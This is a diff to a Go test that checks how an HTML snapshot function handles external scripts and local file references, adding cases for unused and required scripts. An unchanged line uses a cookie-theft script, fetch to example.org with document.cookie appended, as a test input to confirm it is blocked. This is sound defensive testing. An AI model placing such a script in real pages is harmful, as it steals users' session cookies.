@@ -125,6 +125,14 @@ func TestHTML(t *testing.T) {
 	if picture, err := b.HTML(`text<img src="file://` + secret + `">`); err != nil || picture.Missing != "file://"+secret {
 		t.Errorf("a picture of the machine: %+v, %v", picture, err)
 	}
+	// A script matters if the page fails without it.
+	const tag = `<p>shown</p><script src="https://example.org/x.js"></script>`
+	if picture, err := b.HTML(tag); err != nil || picture.Missing != "https://example.org/x.js" {
+		t.Errorf("a script that is not used: %+v, %v", picture, err)
+	}
+	if _, err := b.HTML(tag + "<script>X.draw()</script>"); err == nil || !strings.Contains(err.Error(), "needs https://example.org/x.js") {
+		t.Errorf("a script that is used: %v", err)
+	}
 	for _, body := range []string{`<script src="https://example.org/x.js"></script>`, `<script>fetch("https://example.org/?" + document.cookie)</script>`} {
 		_, err := b.HTML("text" + body)
 		if missing, ok := errors.AsType[*snapshot.MissingError](err); !ok || len(missing.Addresses) != 1 {
